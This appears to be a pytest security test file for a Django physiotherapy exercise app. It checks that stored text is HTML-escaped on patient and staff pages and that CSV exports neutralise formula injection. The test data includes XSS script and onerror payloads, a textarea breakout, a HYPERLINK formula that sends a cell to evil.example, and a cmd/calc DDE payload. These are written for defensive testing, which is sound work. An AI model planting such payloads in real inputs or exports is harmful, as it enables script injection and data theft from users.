"""Stored text is escaped on every page that shows it.

A script payload goes into every kind of free text — the exercise library's text, the
clinician's message and notes, the patient's session note, function check-in activities and
symptom report — then every page that shows it is opened, as the patient and as the
clinician. The raw payload must never come back; its escaped form must be where the text is
meant to be, so the test also fails if a page silently stops showing the text. The CSV
exports carry the text as data, with formula injection neutralised.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils.html import escape

from patients.models import FunctionActivity, SessionLog, SymptomReport
from tests.factories import (
    ExerciseFactory,
    PatientFactory,
    PrescribedExerciseFactory,
    PrescriptionFactory,
)

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert({})</script>"
IMAGE = '"><img src=x onerror=alert({})>'
# The fragments that would run if the payload reached the page unescaped.
RAW = ("<script>alert(", "<img src=x onerror=")


def payload(where: str) -> str:
    """Both attacks in one string, labelled so a failure says which text leaked."""
    return SCRIPT.format(where) + IMAGE.format(where)


FIELDS = {
    field: payload(field)
    for field in (
        "exercise_name",
        "summary",
        "instructions",
        "cues",
        "precautions",
        "message",
        "exercise_note",
        "prescription_name",
        "patient_name",
        "patient_notes",
        "session_note",
        "activity",
        "symptom_note",
    )
}


@pytest.fixture
def stored(client, clinician):
    """Every free text a person can write, each holding its own payload."""
    patient = PatientFactory(
        clinician=clinician,
        first_name=FIELDS["patient_name"],
        last_name="Ashby",
        notes=FIELDS["patient_notes"],
    )
    today = patient.today()
    exercise = ExerciseFactory(
        name=FIELDS["exercise_name"],
        summary=FIELDS["summary"],
        instructions=f"Lie down.\n{FIELDS['instructions']}",
        cues=FIELDS["cues"],
        precautions=FIELDS["precautions"],
    )
    prescription = PrescriptionFactory(
        patient=patient,
        name=FIELDS["prescription_name"],
        message=FIELDS["message"],
        start_date=today - datetime.timedelta(days=14),
    )
    prescribed = PrescribedExerciseFactory(
        prescription=prescription, exercise=exercise, notes=FIELDS["exercise_note"]
    )
    # What the patient writes goes in through the patient's own forms.
    client.force_login(patient.user)
    done_url = reverse("patients:session_done", args=[today.isoformat(), 1])
    assert client.post(done_url, {"pain": 3, "note": FIELDS["session_note"]}).status_code == 302
    checkin = {"new_name_1": FIELDS["activity"], "new_score_1": 4}
    assert client.post(reverse("patients:checkin"), checkin).status_code == 302
    symptoms = {"symptoms": ["other"], "note": FIELDS["symptom_note"]}
    assert client.post(reverse("patients:symptoms"), symptoms).status_code == 200
    client.logout()
    assert SessionLog.objects.get().note == FIELDS["session_note"]
    assert FunctionActivity.objects.get().name == FIELDS["activity"]
    assert SymptomReport.objects.get().note == FIELDS["symptom_note"]
    return patient, prescribed


def assert_escaped(html: str, shown: list[str]):
    for fragment in RAW:
        assert fragment not in html, html[max(0, html.find(fragment) - 300) :][:600]
    for field in shown:
        assert escape(FIELDS[field]) in html, f"{field} is not on the page (escaped)"


TODAY_SHOWS = ["exercise_name", "exercise_note", "message", "session_note"]
EXERCISE_SHOWS = ["exercise_name", "summary", "instructions", "cues", "precautions"]
HANDOUT_SHOWS = ["exercise_name", "instructions", "exercise_note", "message", "prescription_name"]

PATIENT_PAGES = [
    ("patients:today", [], TODAY_SHOWS),
    ("patients:exercise", ["prescribed"], [*EXERCISE_SHOWS, "exercise_note"]),
    ("patients:history", [], []),
    ("patients:print", [], HANDOUT_SHOWS),
    ("patients:guided", ["today", 1], ["exercise_name", "exercise_note", "instructions"]),
    ("patients:checkin", [], ["activity"]),
    ("patients:settings", [], []),
    ("patients:symptoms", [], []),
    ("patients:safety", [], []),
]


def _args(args, patient, prescribed):
    values = {"prescribed": prescribed.pk, "today": patient.today().isoformat()}
    return [values.get(arg, arg) for arg in args]


@pytest.mark.parametrize(
    ("name", "args", "shown"), PATIENT_PAGES, ids=[page[0] for page in PATIENT_PAGES]
)
def test_patient_pages_escape_every_stored_text(client, stored, name, args, shown):
    patient, prescribed = stored
    client.force_login(patient.user)
    response = client.get(reverse(name, args=_args(args, patient, prescribed)))
    assert response.status_code == 200
    assert_escaped(response.content.decode(), shown)


def test_the_patients_own_refused_note_is_escaped_when_shown_back(client, patient):
    # The form is re-displayed with what was typed: the textarea must not end early.
    PrescriptionFactory(patient=patient, start_date=patient.today())
    client.force_login(patient.user)
    note = "</textarea>" + payload("echo") + "\x00"
    url = reverse("patients:session_done", args=[patient.today().isoformat(), 1])
    response = client.post(url, {"pain": 3, "note": note})
    assert response.status_code == 400
    html = response.content.decode()
    assert "</textarea><script>" not in html
    assert_escaped(html, [])


STAFF_PAGES = [
    ("admin:index", [], ["patient_name"]),
    (
        "admin:patients_patient_progress",
        ["patient"],
        ["patient_name", "exercise_name", "prescription_name", "session_note", "activity"],
    ),
    ("admin:patients_patient_change", ["patient"], ["patient_name", "patient_notes", "activity"]),
    ("admin:patients_patient_changelist", [], ["patient_name"]),
    ("admin:patients_patient_print", ["patient"], HANDOUT_SHOWS),
    (
        "admin:patients_prescription_change",
        ["prescription"],
        ["prescription_name", "message", "exercise_note"],
    ),
    ("admin:patients_prescription_changelist", [], ["prescription_name", "patient_name"]),
    ("admin:patients_sessionlog_change", ["log"], ["session_note", "prescription_name"]),
    ("admin:patients_sessionlog_changelist", [], ["patient_name"]),
    ("admin:exercises_exercise_change", ["exercise"], EXERCISE_SHOWS),
    ("admin:exercises_exercise_changelist", [], ["exercise_name"]),
]


@pytest.mark.parametrize(
    ("name", "args", "shown"), STAFF_PAGES, ids=[page[0] for page in STAFF_PAGES]
)
def test_staff_pages_escape_every_stored_text(client, stored, superuser, name, args, shown):
    patient, prescribed = stored
    values = {
        "patient": patient.pk,
        "prescription": prescribed.prescription_id,
        "log": SessionLog.objects.get().pk,
        "exercise": prescribed.exercise_id,
    }
    # The superuser sees the library and every patient's pages; the clinician sees the same
    # patient pages (the access matrix checks who sees what).
    client.force_login(superuser)
    response = client.get(reverse(name, args=[values[arg] for arg in args]))
    assert response.status_code == 200
    assert_escaped(response.content.decode(), shown)


def test_the_clinicians_own_pages_escape_too(client, stored, clinician):
    patient, _ = stored
    client.force_login(clinician)
    for url in (
        reverse("admin:index"),
        reverse("admin:patients_patient_progress", args=[patient.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 200
        assert_escaped(response.content.decode(), ["patient_name"])


def test_messages_that_quote_names_are_escaped(client, stored, clinician):
    # Flash messages are built with f-strings from names; the template must escape them.
    patient, _ = stored
    client.force_login(patient.user)
    url = reverse("patients:session_done", args=[patient.today().isoformat(), 1])
    response = client.post(url, {"pain": 2, "note": "again"}, follow=True)
    assert "Well done" in response.content.decode()
    assert_escaped(response.content.decode(), ["patient_name"])

    client.force_login(clinician)
    review = reverse("admin:patients_patient_review", args=[patient.pk])
    response = client.post(review, follow=True)
    assert "marked as reviewed" in response.content.decode()
    assert_escaped(response.content.decode(), ["patient_name"])


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def logged_record(rows: list[list[str]]) -> dict[str, str]:
    """The one logged session of a patient's export (the due days before it are rows too,
    "missed")."""
    header, *body = rows
    (record,) = [
        dict(zip(header, row, strict=True))
        for row in body
        if row[header.index("status")] != "missed"
    ]
    return record


def test_patient_export_carries_the_text_as_data(client, stored, clinician):
    patient, _ = stored
    client.force_login(clinician)
    rows = read_csv(client.get(reverse("admin:patients_patient_export", args=[patient.pk])))
    record = logged_record(rows)
    assert record["note"] == FIELDS["session_note"]
    assert record["program"] == FIELDS["prescription_name"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_exports_neutralise_formulas_in_text_cells(client, clinician, formula):
    patient = PatientFactory(clinician=clinician, first_name=formula, last_name="Ashby")
    prescription = PrescriptionFactory(
        patient=patient,
        name=formula,
        start_date=patient.today() - datetime.timedelta(days=3),
    )
    PrescribedExerciseFactory(prescription=prescription, exercise__name=formula)
    SessionLog.objects.create(
        prescription=prescription,
        date=patient.today() - datetime.timedelta(days=1),
        session_number=1,
        pain=2,
        note=formula,
    )
    client.force_login(clinician)
    logs = read_csv(client.get(reverse("admin:patients_patient_export", args=[patient.pk])))
    record = logged_record(logs)
    assert record["note"] == "'" + formula
    assert record["program"] == "'" + formula
    assert record["pain (0-10)"] == "2"  # numbers stay numbers

    changelist = reverse("admin:patients_patient_changelist")
    response = client.post(
        changelist, {"action": "export_adherence_csv", "_selected_action": [patient.pk]}
    )
    adherence = dict(zip(*read_csv(response), strict=True))
    assert adherence["name"] == "'" + patient.full_name
    assert adherence["patient id"] == str(patient.pk)


# The last four: full-width = + - @, which some spreadsheets also read as formulas.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_finding_12_csv_quotes_every_field_neutralises_formulas_and_starts_with_a_bom(
    client, clinician, start
):
    """Security review round 2, finding 12: every field quoted, a formula character at the
    start of any cell neutralised, and a UTF-8 byte-order mark so that spreadsheet programs
    read accents and dashes."""
    patient = PatientFactory(clinician=clinician, first_name="Zoë", last_name="Ashby")
    prescription = PrescriptionFactory(
        patient=patient, name="Hips – week 1", start_date=patient.today() - datetime.timedelta(3)
    )
    done = PrescribedExerciseFactory(prescription=prescription, exercise__name=f"{start}SUM(A1)")
    log = SessionLog.objects.create(
        prescription=prescription,
        date=patient.today() - datetime.timedelta(days=1),
        pain=2,
        note="Légère douleur — mieux",
    )
    log.checks.create(prescribed_exercise=done)
    client.force_login(clinician)
    response = client.get(reverse("admin:patients_patient_export", args=[patient.pk]))
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    lines = text.splitlines()
    # Every field in quotes, numbers and dates included.
    assert lines[0] == ",".join(f'"{name}"' for name in header)
    logged_line = next(line for line in lines if "Légère douleur" in line)
    assert '"2"' in logged_line.split(",")
    record = logged_record(rows)
    assert record["pain (0-10)"] == "2"
    assert record["exercises done"] == f"'{start}SUM(A1)"
    assert record["note"] == "Légère douleur — mieux"
    assert record["program"] == "Hips – week 1"

    response = client.post(
        reverse("admin:patients_patient_changelist"),
        {"action": "export_adherence_csv", "_selected_action": [patient.pk]},
    )
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    first = body.decode("utf-8-sig").splitlines()[1]
    assert first.startswith(f'"{patient.pk}","Zoë Ashby",')


def test_ordinary_text_in_exports_is_unchanged(client, clinician):
    patient = PatientFactory(clinician=clinician, first_name="Alice", last_name="Ashby")
    prescription = PrescriptionFactory(
        patient=patient, start_date=patient.today() - datetime.timedelta(days=3)
    )
    SessionLog.objects.create(
        prescription=prescription,
        date=patient.today() - datetime.timedelta(days=1),
        session_number=1,
        note="Felt fine; 3 = better than last week",
    )
    client.force_login(clinician)
    logs = read_csv(client.get(reverse("admin:patients_patient_export", args=[patient.pk])))
    assert logged_record(logs)["note"] == "Felt fine; 3 = better than last week"
